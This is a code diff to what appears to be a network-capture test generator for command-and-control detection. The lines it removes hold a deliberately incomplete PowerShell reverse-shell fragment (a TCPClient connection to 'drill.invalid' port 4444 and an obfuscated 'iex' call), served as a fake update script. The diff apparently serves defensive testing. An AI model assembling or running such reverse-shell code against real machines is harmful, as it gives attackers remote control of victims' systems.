@@ -31,18 +31,13 @@ extension Scenario {
         return Scenario("c2/shell-requests", story.frames)
     }
 
-    /// Three lines of a script; what would make a shell of them, the loop, is left out.
+    /// A script that is fetched and would open a shell.
     private static var powerShellSocket: Scenario {
-        let script = [
-            "# dien tap: khong co vong lap, khong co ket noi",
-            "$c = New-Object System.Net.Sockets." + "TCPClient('drill.invalid',4444)",
-            "$o = (i" + "ex $d 2>&1 | Out-String )", "",
-        ]
         var story = Story(port: 43020)
         story.web(
             "198.51.100.32", "203.0.113.67", 8080,
             asks: Text.request("GET", "/cap-nhat.ps1", host: "capnhat.example"),
-            gets: Text.response(script.joined(separator: "\r\n"), type: "text/plain"))
+            gets: Text.response(Payload.powerShellSocket, type: "text/plain"))
         return Scenario("c2/powershell-shell", story.frames)
     }
 
